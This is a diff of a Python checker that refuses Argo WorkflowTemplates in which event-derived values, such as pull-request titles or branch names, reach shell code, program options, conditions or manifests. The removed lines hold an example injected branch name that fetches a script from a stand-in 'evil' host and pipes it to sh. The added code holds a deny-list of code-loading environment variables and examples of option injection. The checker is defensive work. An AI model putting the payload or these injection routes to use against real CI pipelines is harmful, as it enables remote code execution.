@@ -1,311 +1,247 @@
-"""Refuses WorkflowTemplates that put event-derived values where a shell or an interpreter parses them as code.
+"""Refuses WorkflowTemplates that put an event-derived value anywhere but where a program reads it as data.
 
-A branch name may be `x$(curl${IFS}evil|sh)`; Argo substitutes `{{workflow.parameters.git_ref}}` as plain text, so a
-template that writes it into `script.source` or into the string of `sh -c` runs it. The safe way is the environment:
-`env: [{name: GIT_REF, value: "{{workflow.parameters.git_ref}}"}]` and `"$GIT_REF"` in the script, which the shell
-never parses. This module finds the unsafe uses at `pulumi preview`, following values that steps and DAG tasks pass on
-to other templates' inputs. What it cannot see (a `templateRef` to another WorkflowTemplate, a value written to a file
-and read back by `eval`) is the template author's to keep safe; README says so.
+An event-derived value is a template parameter the pipeline fills from the payload (its `parameters:`): a pull
+request's title, a comment, a branch name mapped by hand. Argo substitutes `{{...}}` as plain text, so wherever such a
+value lands, its author writes that text: code in `script.source` or `sh -c`, options of whatever program the
+arguments go to (`git -c alias.x=!...`, `find -exec`, `python3 -W ignore -c`), a govaluate condition in `when`, a pod
+spec, a manifest, a URL. A list of the dangerous places kept missing one, so this is the list of the safe ones, and
+every other place is refused at `pulumi preview`, one problem per place with the fix that fits it:
+
+- the `value` of an `env` entry of a container, unless the variable is one programs execute or load code from
+  (EXECUTED_VARIABLES), or the container's `command`/`args`, another env value or a `subPathExpr` pastes it back in
+  with Kubernetes' `$(NAME)` expansion (the kubelet substitutes it before any shell parses the argument);
+- another template's input (settings/taint.py follows it there): a step's, DAG task's or hook's argument, an input's
+  `value`/`default`, `withItems`/`withParam`, an output parameter's `value` or `valueFrom.parameter`.
+
+The well-known parameters are not event-derived: their binding guarantees GitHub's shape (or gives ""), so they may
+go anywhere.
 """
 
 from __future__ import annotations
 
-import re
-from collections.abc import Iterable, Iterator, Mapping, Sequence
-from dataclasses import dataclass
+from collections.abc import Iterable, Iterator, Mapping
 from typing import Any
 
+from settings.taint import TemplateFlow, kubernetes_references
 from settings.templates import WorkflowTemplateFile
 
-_TAG = re.compile(r"\{\{(.*?)\}\}", re.DOTALL)
-_REFERENCE = re.compile(
-    r"(?<![A-Za-z0-9_.])(workflow|inputs)\.parameters(?:\.([A-Za-z0-9_-]+)|\[\s*['\"]([^'\"]+)['\"]\s*\])"
+# Environment variables whose value programs execute, source or load code from. An allow-list of safe names is not
+# practical (a variable's name is whatever the template's program reads: GIT_REF, TITLE, PR_BODY, ...), so this is a
+# deny-list, kept wide: shells and their startup files, git's commands and config-by-environment, the dynamic loader,
+# interpreters' options and module paths, build tools' flags, package managers' configuration, proxies and CAs.
+EXECUTED_VARIABLES = frozenset(
+    {
+        "BASH_ENV", "ENV", "ZDOTDIR", "SHELLOPTS", "BASHOPTS", "PROMPT_COMMAND", "PS0", "PS1", "PS2", "PS4", "IFS",
+        "PATH", "SHELL", "CDPATH", "GLOBIGNORE", "HISTFILE", "INPUTRC", "TERMINFO",
+        "GIT_SSH", "GIT_SSH_COMMAND", "GIT_ASKPASS", "SSH_ASKPASS", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "EDITOR",
+        "VISUAL", "GIT_PAGER", "PAGER", "MANPAGER", "LESSOPEN", "LESSCLOSE", "BROWSER", "GIT_EXTERNAL_DIFF",
+        "GIT_PROXY_COMMAND", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "GIT_DIR", "GIT_WORK_TREE", "GIT_COMMON_DIR",
+        "GCONV_PATH", "HOSTALIASES", "CLASSPATH", "MAKEFLAGS", "MFLAGS", "MAKE", "RUSTFLAGS", "RUSTC_WRAPPER",
+        "RUSTC", "CC", "CXX", "CPP", "LD", "CFLAGS", "CXXFLAGS", "LDFLAGS", "MAVEN_OPTS", "GRADLE_OPTS", "JAVA_OPTS",
+        "SBT_OPTS", "ANT_OPTS", "KUBECONFIG", "DOCKER_HOST", "SSL_CERT_FILE", "SSL_CERT_DIR", "CURL_CA_BUNDLE",
+        "REQUESTS_CA_BUNDLE", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY",
+    }
 )
+EXECUTED_PREFIXES = (
+    "LD_", "DYLD_", "BASH_FUNC_", "GIT_CONFIG", "PYTHON", "PERL", "RUBY", "GEM_", "BUNDLE_", "NODE_", "NPM_CONFIG_",
+    "YARN_", "JAVA_", "_JAVA_", "JDK_JAVA_", "PIP_", "UV_", "CARGO_", "CGO_", "GO", "LUA_", "PHP_", "MALLOC_",
+    "GLIBC_", "DOTNET_", "COMPLUS_",
+)
+_CONTAINERS = (("container",), ("script",))
+_CONTAINER_LISTS = (("initContainers",), ("sidecars",), ("containerSet", "containers"))
 
-# Programs that parse an argument as code, and how: shells take the first operand after `-c`; interpreters the
-# argument after their "evaluate" flag; awk and sed their first operand (or `-e`'s argument).
-_SHELLS = frozenset(
-    {"sh", "bash", "rbash", "ash", "dash", "zsh", "ksh", "mksh", "pdksh", "oksh", "yash", "posh", "fish", "csh", "tcsh"}
+_ENV_FIX = (
+    "pass it through the environment: env: [{name: TITLE, value: '<the tag>'}] on the container, and let the program "
+    "read the variable"
 )
-_EVAL_FLAGS: dict[str, frozenset[str]] = {
-    "python": frozenset({"-c"}),
-    "pypy": frozenset({"-c"}),
-    "node": frozenset({"-e", "--eval", "-p", "--print"}),
-    "nodejs": frozenset({"-e", "--eval", "-p", "--print"}),
-    "deno": frozenset({"eval"}),
-    "bun": frozenset({"-e", "--eval", "-p", "--print"}),
-    "perl": frozenset({"-e", "-E"}),
-    "ruby": frozenset({"-e"}),
-    "php": frozenset({"-r"}),
-    "lua": frozenset({"-e"}),
-    "Rscript": frozenset({"-e"}),
-    "pwsh": frozenset({"-c", "-command", "-encodedcommand", "-ec"}),
-    "powershell": frozenset({"-c", "-command", "-encodedcommand", "-ec"}),
-    "su": frozenset({"-c", "--command"}),
+# The fix for a place, found by the first of its keys listed here (outermost first).
+_FIXES = {
+    "podSpecPatch": "a pod spec is no place for a delivery's text (and podSpecPatch is refused anyway): " + _ENV_FIX,
+    "templateDefaults": "templateDefaults reach every template: " + _ENV_FIX + " in the template that needs it",
+    "resource": "a resource manifest is applied as written: create the object from a container that reads the "
+    "value from its environment, or use only well-known values",
+    "http": "an http template sends the text as written: make the request from a container that reads the value "
+    "from its environment",
+    "data": "a data template's source and transformations are not values: use fixed text or well-known values",
+    "artifacts": "artifact keys, URLs and paths choose what is read and written: use fixed names or well-known "
+    "values (repository, head_commit, delivery_id)",
+    "archiveLocation": "artifact keys, URLs and paths choose what is read and written: use fixed names or well-known "
+    "values (repository, head_commit, delivery_id)",
+    "synchronization": "a lock's name decides which runs exclude each other: use a fixed name or a well-known value "
+    "(e.g. repository)",
+    "metadata": "labels and annotations: use fixed text or well-known values",
+    "podMetadata": "labels and annotations: use fixed text or well-known values",
+    "workflowMetadata": "labels and annotations: use fixed text or well-known values",
+    "volumes": "paths and volume sources must not come from a delivery: use fixed ones",
+    "volumeMounts": "paths must not come from a delivery: use fixed ones",
+    "workingDir": "paths must not come from a delivery: use a fixed workingDir",
+    "when": "Argo evaluates the substituted condition (govaluate), so a quote in the value rewrites it: decide inside "
+    "a step that reads the value from its environment and exits non-zero to say no, and test its "
+    "{{steps.<name>.exitCode}} (outputs computed from the value carry it too)",
+    "source": "read it from the script's environment: add env: [{name: TITLE, value: '<the tag>'}] to the script and "
+    'use "$TITLE" (shell) or os.environ["TITLE"] (Python) in the source',
+    "command": "an argument is parsed by the program it goes to (a shell's -c, an interpreter's -e, git's -c, any "
+    "option): " + _ENV_FIX + ", e.g. \"$TITLE\" inside a shell script (never $(TITLE): Kubernetes pastes that into "
+    "the argument)",
+    "template": "which template runs must not come from a delivery: name it, and pass the value as an argument",
+    "templateRef": "which template runs must not come from a delivery: name it, and pass the value as an argument",
+    "env": "a variable's name must be fixed: put the value in the env entry's value",
+    "depends": "a task's dependencies must be fixed",
 }
-_PROGRAM_IS_FIRST_OPERAND = frozenset({"awk", "gawk", "mawk", "nawk", "sed", "gsed", "jq"})
-# Programs that run the rest of their arguments as another command (`env A=b sh -c ...`, `busybox sh -c ...`).
-_WRAPPERS = frozenset(
-    {"env", "nice", "nohup", "exec", "timeout", "stdbuf", "tini", "dumb-init", "busybox", "xargs", "time", "command",
-     "setsid", "sudo", "doas", "ionice", "chrt", "taskset", "unbuffer", "catatonit"}
-)
-_WRAPPER_OPTIONS_WITH_VALUE = frozenset({"-u", "-n", "-s", "-k", "-c", "-p", "-g", "-C", "-S", "-I", "-L", "-P"})
-_ITEM = re.compile(r"\{\{\s*=?\s*item\b")
-_VERSIONED = re.compile(r"^(python|pypy|perl|ruby|php|lua|node)[0-9.]*$")
-
-FIX = (
-    "pass it through the environment instead, e.g. env: [{name: GIT_REF, value: '{{workflow.parameters.git_ref}}'}] "
-    'and "$GIT_REF" in the script (the shell never parses a variable\'s value as code)'
-)
+_FIXES["args"] = _FIXES["command"]
+_GENERIC_FIX = "an event-derived value may reach a container only as the value of an env entry: " + _ENV_FIX
 
 
-@dataclass(frozen=True)
-class _Taint:
-    """An input of a template that carries an event-derived value, and which workflow parameter it came from."""
-
-    origin: str
+def executed_variable(name: str) -> bool:
+    """Whether programs run or load code from the variable `name` (compared upper-case: npm reads npm_config_*)."""
+    upper = name.upper()
+    return upper in EXECUTED_VARIABLES or upper.startswith(EXECUTED_PREFIXES)
 
 
 def injection_problems(template: WorkflowTemplateFile, event_derived: Iterable[str]) -> list[str]:
-    """Every place in the file where an event-derived parameter reaches code, in words with the fix."""
-    tainted_workflow = frozenset(event_derived)
-    if not tainted_workflow:
+    """Every place in the file where an event-derived parameter may reach a container but as an env value."""
+    flow = TemplateFlow(template, event_derived)
+    if not flow.workflow:
         return []
-    spec = template.document.get("spec") or {}
-    templates = {str(t.get("name")): t for t in spec.get("templates") or [] if isinstance(t, Mapping)}
-    inputs = _tainted_inputs(templates, str(spec.get("entrypoint")), tainted_workflow)
     problems: list[str] = []
-    for name, body in templates.items():
-        for where, text, code_of in _code_places(body):
-            for parameter, shown in _references(text, tainted_workflow, inputs.get(name, {})):
+    holders: list[tuple[str, Mapping[str, Any], str | None]] = [("the workflow spec", flow.spec, None)]
+    holders.extend((f"template {name!r}", body, name) for name, body in flow.templates.items())
+    for where, holder, name in holders:
+        containers = dict(_containers(holder)) if name is not None else {}
+        for path, origins, tags in flow.places(holder, name):
+            if path[-1] == "value" and path[-3:-2] == ("env",) and path[:-3] in containers:
+                continue  # an env value: checked with its container below
+            passes, unfollowed = _passes_on(flow, holder, name is not None, path)
+            field = _rendered(holder, path)
+            if unfollowed:
                 problems.append(
-                    f"template {name!r}: {where} puts the event-derived parameter {parameter!r} ({shown}) into "
-                    f"{code_of}, which parses it as code (a branch named x$(curl${{IFS}}evil|sh) would run); {FIX}"
+                    f"{where}: {field} passes {_carried(origins, tags)} to {unfollowed}, which this check cannot "
+                    "follow: copy that template into this file (a templateRef to the file's own name is followed), "
+                    "or pass only well-known values"
                 )
+            elif not passes:
+                problems.append(f"{where}: {field} carries {_carried(origins, tags)}; {_fix(path)}")
+        for prefix, container in containers.items():
+            problems.extend(_container_problems(flow, str(name), holder, prefix, container))
     return problems
 
 
-def _references(
-    text: str, tainted_workflow: frozenset[str], tainted_inputs: Mapping[str, _Taint]
-) -> Iterator[tuple[str, str]]:
-    """(event-derived parameter, how it is referenced) for each tainted reference inside `{{...}}` in `text`."""
-    for tag in _TAG.finditer(text):
-        for match in _REFERENCE.finditer(tag.group(1)):
-            scope, name = match.group(1), match.group(2) or match.group(3)
-            if scope == "workflow" and name == "json":  # all workflow parameters as one JSON document
-                for parameter in sorted(tainted_workflow):
-                    yield parameter, tag.group(0)
-            elif scope == "workflow" and name in tainted_workflow:
-                yield name, tag.group(0)
-            elif scope == "inputs" and name in tainted_inputs:
-                origin = tainted_inputs[name].origin
-                shown = tag.group(0) if origin == name else f"{tag.group(0)}, fed from {origin!r}"
-                yield origin, shown
+def _passes_on(
+    flow: TemplateFlow, holder: Mapping[str, Any], is_template: bool, path: tuple[Any, ...]
+) -> tuple[bool, str | None]:
+    """Whether `path` passes its value on to another template's input; with the callee's name when that callee is
+    in another file (then it cannot be followed)."""
+    for call in flow.calls(holder):
+        rest = path[len(call.path) :] if path[: len(call.path)] == call.path else None
+        if rest is None:
+            continue
+        if rest[:1] in (("withItems",), ("withParam",)):
+            return True, None
+        if len(rest) == 4 and rest[:2] == ("arguments", "parameters") and rest[3] == "value":
+            return True, None if call.callee else call.target
+    if len(path) == 4 and path[1] == "parameters" and isinstance(path[2], int):
+        kind, key = path[0], path[3]
+        if is_template:
+            return (kind == "inputs" and key in ("value", "default")) or (kind == "outputs" and key == "value"), None
+        return kind == "arguments" and key == "value", None
+    output_from = len(path) == 5 and path[:2] == ("outputs", "parameters") and path[3:] == ("valueFrom", "parameter")
+    if is_template and output_from:
+        return True, None
+    return False, None
 
 
-def _tainted_inputs(
-    templates: Mapping[str, Mapping[str, Any]], entrypoint: str, tainted_workflow: frozenset[str]
-) -> dict[str, dict[str, _Taint]]:
-    """Template inputs that carry event-derived values: the entrypoint's (filled from the Workflow's arguments),
-    defaults that reference them, and whatever steps, DAG tasks and hooks pass on; repeated until nothing changes."""
-    tainted: dict[str, dict[str, _Taint]] = {name: {} for name in templates}
-    entry = templates.get(entrypoint, {})
-    for parameter in _parameters(entry.get("inputs")):
-        if parameter.get("name") in tainted_workflow:
-            tainted.setdefault(entrypoint, {})[str(parameter["name"])] = _Taint(str(parameter["name"]))
-    changed = True
-    while changed:
-        changed = False
-        for name, body in templates.items():
-            for parameter in _parameters(body.get("inputs")):
-                for key in ("value", "default"):
-                    origin = _first_origin(parameter.get(key), tainted_workflow, tainted[name])
-                    if origin and parameter.get("name") not in tainted[name]:
-                        tainted[name][str(parameter["name"])] = _Taint(origin)
-                        changed = True
-            for callee, arguments, loop in _calls(body):
-                if callee not in tainted:
-                    continue  # a templateRef or an unknown name: nothing to follow here
-                # `withParam: "{{workflow.parameters.X}}"` makes every `{{item}}` of the step event-derived.
-                item_origin = _first_origin(loop, tainted_workflow, tainted[name])
-                for argument in _parameters(arguments):
-                    origin = _first_origin(argument.get("value"), tainted_workflow, tainted[name])
-                    if origin is None and item_origin and _ITEM.search(str(argument.get("value", ""))):
-                        origin = item_origin
-                    if origin and argument.get("name") not in tainted[callee]:
-                        tainted[callee][str(argument["name"])] = _Taint(origin)
-                        changed = True
-    return tainted
-
-
-def _first_origin(value: Any, tainted_workflow: frozenset[str], tainted_inputs: Mapping[str, _Taint]) -> str | None:
-    if not isinstance(value, str):
-        return None
-    return next((parameter for parameter, _ in _references(value, tainted_workflow, tainted_inputs)), None)
-
-
-def _parameters(holder: Any) -> list[Mapping[str, Any]]:
-    if not isinstance(holder, Mapping):
-        return []
-    return [parameter for parameter in holder.get("parameters") or [] if isinstance(parameter, Mapping)]
-
-
-def _calls(body: Mapping[str, Any]) -> Iterator[tuple[str, Any, Any]]:
-    """(called template name, its arguments, its withParam) for every step, DAG task and hook of a template."""
-    for group in body.get("steps") or []:
-        for step in group if isinstance(group, list) else [group]:
-            if isinstance(step, Mapping):
-                yield from _call(step)
-    for task in (body.get("dag") or {}).get("tasks") or []:
-        if isinstance(task, Mapping):
-            yield from _call(task)
-
-
-def _call(step: Mapping[str, Any]) -> Iterator[tuple[str, Any, Any]]:
-    if isinstance(step.get("template"), str):
-        yield step["template"], step.get("arguments"), step.get("withParam")
-    for hook in (step.get("hooks") or {}).values():
-        if isinstance(hook, Mapping) and isinstance(hook.get("template"), str):
-            yield hook["template"], hook.get("arguments"), None
-
-
-def _code_places(body: Mapping[str, Any]) -> Iterator[tuple[str, str, str]]:
-    """(where, text, what parses it) for every string of a template that a shell or interpreter runs as code."""
-    script = body.get("script")
-    if isinstance(script, Mapping) and isinstance(script.get("source"), str):
-        yield "script.source", script["source"], "the script's source"
-    for where, container in _containers(body):
-        yield from _argv_places(where, container)
-        for probe in ("livenessProbe", "readinessProbe", "startupProbe"):
-            exec_ = (container.get(probe) or {}).get("exec") or {}
-            yield from _argv_places(f"{where}.{probe}.exec", exec_)
-        for hook in ("postStart", "preStop"):
-            exec_ = ((container.get("lifecycle") or {}).get(hook) or {}).get("exec") or {}
-            yield from _argv_places(f"{where}.lifecycle.{hook}.exec", exec_)
-
-
-def _containers(body: Mapping[str, Any]) -> Iterator[tuple[str, Mapping[str, Any]]]:
-    for key in ("container", "script"):
-        if isinstance(body.get(key), Mapping):
-            yield key, body[key]
-    for key in ("initContainers", "sidecars"):
-        for index, container in enumerate(body.get(key) or []):
+def _containers(holder: Mapping[str, Any]) -> Iterator[tuple[tuple[Any, ...], Mapping[str, Any]]]:
+    for prefix in _CONTAINERS:
+        if isinstance(holder.get(prefix[0]), Mapping):
+            yield prefix, holder[prefix[0]]
+    for prefix in _CONTAINER_LISTS:
+        listing = holder
+        for key in prefix:
+            listing = listing.get(key) if isinstance(listing, Mapping) else None
+        for index, container in enumerate(listing or []):
             if isinstance(container, Mapping):
-                yield f"{key}[{container.get('name', index)}]", container
-    for index, container in enumerate((body.get("containerSet") or {}).get("containers") or []):
-        if isinstance(container, Mapping):
-            yield f"containerSet.containers[{container.get('name', index)}]", container
+                yield (*prefix, index), container
 
 
-def _argv_places(where: str, holder: Mapping[str, Any]) -> Iterator[tuple[str, str, str]]:
-    command = [str(item) for item in holder.get("command") or []]
-    args = [str(item) for item in holder.get("args") or []]
-    # Without `command` the image's entrypoint runs `args`; most images used this way run them as the command.
-    argv = command + args
-    for index, program in code_positions(argv):
-        if index < len(command):
-            yield f"{where}.command[{index}]", command[index], program
+def _container_problems(
+    flow: TemplateFlow, name: str, holder: Mapping[str, Any], prefix: tuple[Any, ...], container: Mapping[str, Any]
+) -> Iterator[str]:
+    """An env value may carry event values, unless its name is executed or `$(NAME)` pastes it into an argument."""
+    where = f"template {name!r}"
+    carried: dict[str, tuple[frozenset[str], list[str]]] = {}
+    scope = flow.scope(name)
+    for index, entry in enumerate(container.get("env") or []):
+        if not isinstance(entry, Mapping) or not isinstance(entry.get("value"), str):
+            continue
+        origins, tags = scope.origins(entry["value"])
+        for reference in kubernetes_references(entry["value"]):
+            if reference in carried:  # `$(TITLE)` in another variable: that one carries it too
+                origins = origins | carried[reference][0]
+                tags = [*tags, f"$({reference})"]
+        if not origins:
+            continue
+        variable = str(entry.get("name"))
+        carried[variable] = (origins, tags)
+        if executed_variable(variable):
+            field = _rendered(holder, (*prefix, "env", index, "value"))
+            yield (
+                f"{where}: {field} carries {_carried(origins, tags)} into {variable}, a variable programs execute or "
+                "load code from (git runs GIT_SSH_COMMAND and reads GIT_CONFIG_*, shells source BASH_ENV and ENV, "
+                "the loader LD_*, interpreters their *OPTIONS and module paths): give it a name no program acts on, "
+                "and let the script use it as data"
+            )
+    if not carried:
+        return
+    argv_places = [
+        (key, index, word) for key in ("command", "args") for index, word in enumerate(container.get(key) or [])
+    ]
+    mounts = [
+        ("volumeMounts", index, "subPathExpr", mount.get("subPathExpr"))
+        for index, mount in enumerate(container.get("volumeMounts") or [])
+        if isinstance(mount, Mapping)
+    ]
+    for path, text in [((key, index), word) for key, index, word in argv_places] + [
+        ((key, index, field), text) for key, index, field, text in mounts
+    ]:
+        if not isinstance(text, str):
+            continue
+        expanded = [reference for reference in kubernetes_references(text) if reference in carried]
+        if not expanded:
+            continue
+        origins = frozenset().union(*(carried[reference][0] for reference in expanded))
+        names = ", ".join(f"$({reference})" for reference in dict.fromkeys(expanded))
+        field = _rendered(holder, (*prefix, *path))
+        yield (
+            f"{where}: {field} expands {names}, which carries {_carried(origins, [])}: Kubernetes pastes the value "
+            "into the text before the program (or a shell) parses it; write \"$NAME\" inside the shell script "
+            "instead (the shell reads a variable's value as data), or $$(NAME) for the literal text"
+        )
+
+
+def _carried(origins: frozenset[str], tags: list[str]) -> str:
+    names = ", ".join(repr(origin) for origin in sorted(origins))
+    noun = "parameter" if len(origins) == 1 else "parameters"
+    shown = f" ({', '.join(dict.fromkeys(tags))})" if tags else ""
+    return f"the event-derived {noun} {names}{shown}"
+
+
+def _fix(path: tuple[Any, ...]) -> str:
+    return next((_FIXES[key] for key in path if isinstance(key, str) and key in _FIXES), _GENERIC_FIX)
+
+
+def _rendered(holder: Any, path: tuple[Any, ...]) -> str:
+    """`container.env[TITLE].value`, `steps[0][deploy].when`: list items by their name where they have one."""
+    text = ""
+    current = holder
+    for key in path:
+        if isinstance(key, int):
+            item = current[key] if isinstance(current, list) and key < len(current) else None
+            named = isinstance(item, Mapping) and isinstance(item.get("name"), str) and "{{" not in item["name"]
+            label = item["name"] if named else key  # type: ignore[index]
+            text += f"[{label}]"
+            current = item
         else:
-            yield f"{where}.args[{index - len(command)}]", args[index - len(command)], program
+            text += f".{key}" if text else str(key)
+            current = current.get(key) if isinstance(current, Mapping) else None
+    return text
 
-
-def _program(word: str) -> str:
-    name = word.rsplit("/", 1)[-1]
-    versioned = _VERSIONED.match(name)
-    return versioned.group(1) if versioned else name
-
-
-def code_positions(argv: Sequence[str]) -> list[tuple[int, str]]:
-    """Indexes of `argv` that are parsed as code (the program name included), each with what parses it."""
-    index = _skip_wrappers(argv, 0)
-    if index >= len(argv):
-        return []
-    positions = [(index, "the command name")]
-    program = _program(argv[index])
-    if program in _SHELLS:
-        positions.extend(_shell_code(argv, index + 1, f"{program} -c"))
-    elif program in _EVAL_FLAGS:
-        positions.extend(_eval_code(argv, index + 1, program, _EVAL_FLAGS[program]))
-    elif program in _PROGRAM_IS_FIRST_OPERAND:
-        positions.extend(_first_operand_code(argv, index + 1, program))
-    return positions
-
-
-def _skip_wrappers(argv: Sequence[str], index: int) -> int:
-    while index < len(argv) and _program(argv[index]) in _WRAPPERS:
-        wrapper = _program(argv[index])
-        index += 1
-        while index < len(argv):
-            word = argv[index]
-            if word == "--":
-                index += 1
-                break
-            if word.startswith("-") and len(word) > 1:
-                index += 2 if word in _WRAPPER_OPTIONS_WITH_VALUE else 1
-            elif _wrapper_operand(wrapper, word):
-                index += 1  # env's NAME=VALUE, timeout's duration, nice's priority: not parsed as code
-            else:
-                break
-    return index
-
-
-def _wrapper_operand(wrapper: str, word: str) -> bool:
-    if wrapper == "env":
-        return "=" in word
-    if wrapper == "timeout":
-        return re.match(r"^[0-9.]+[smhd]?$", word) is not None
-    return wrapper in ("nice", "chrt", "taskset") and re.match(r"^[0-9a-fx,-]+$", word) is not None
-
-
-def _shell_code(argv: Sequence[str], index: int, what: str) -> list[tuple[int, str]]:
-    """`sh [options] -c COMMAND [name [args...]]`: COMMAND is parsed; without -c the operand is a script path."""
-    has_command = False
-    while index < len(argv):
-        word = argv[index]
-        if word == "--":
-            index += 1
-            break
-        if word in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
-            index += 2
-        elif word.startswith("--"):
-            index += 1
-        elif (word.startswith("-") or word.startswith("+")) and len(word) > 1:
-            has_command = has_command or (word[0] == "-" and "c" in word[1:])
-            index += 2 if word[-1] == "o" and word[0] == "-" else 1
-        else:
-            break
-    if index >= len(argv):
-        return []
-    return [(index, what)] if has_command else [(index, "the shell's script path")]
-
-
-def _eval_code(argv: Sequence[str], index: int, program: str, flags: frozenset[str]) -> list[tuple[int, str]]:
-    while index < len(argv):
-        word = argv[index]
-        if word.lower() in flags or word in flags:
-            return [(index + 1, f"{program} {word}")] if index + 1 < len(argv) else []
-        short = next((flag for flag in flags if len(flag) == 2 and word.startswith(flag) and len(word) > 2), None)
-        if short:
-            return [(index, f"{program} {short}")]  # `-cCODE`: the code is glued to the flag
-        if not word.startswith("-"):
-            return [(index, f"{program}'s script path")]
-        index += 1
-    return []
-
-
-def _first_operand_code(argv: Sequence[str], index: int, program: str) -> list[tuple[int, str]]:
-    positions: list[tuple[int, str]] = []
-    while index < len(argv):
-        word = argv[index]
-        if word in ("-e", "--expression"):
-            positions.append((index + 1, f"{program} {word}"))
-            index += 2
-        elif word in ("-f", "--file"):
-            return positions
-        elif word in ("-F", "-v", "--arg", "--argjson"):
-            index += 2 if word != "--arg" and word != "--argjson" else 3
-        elif word.startswith("-") and len(word) > 1:
-            index += 1
-        else:
-            return positions or [(index, f"{program}'s program text")]
-    return [position for position in positions if position[0] < len(argv)]
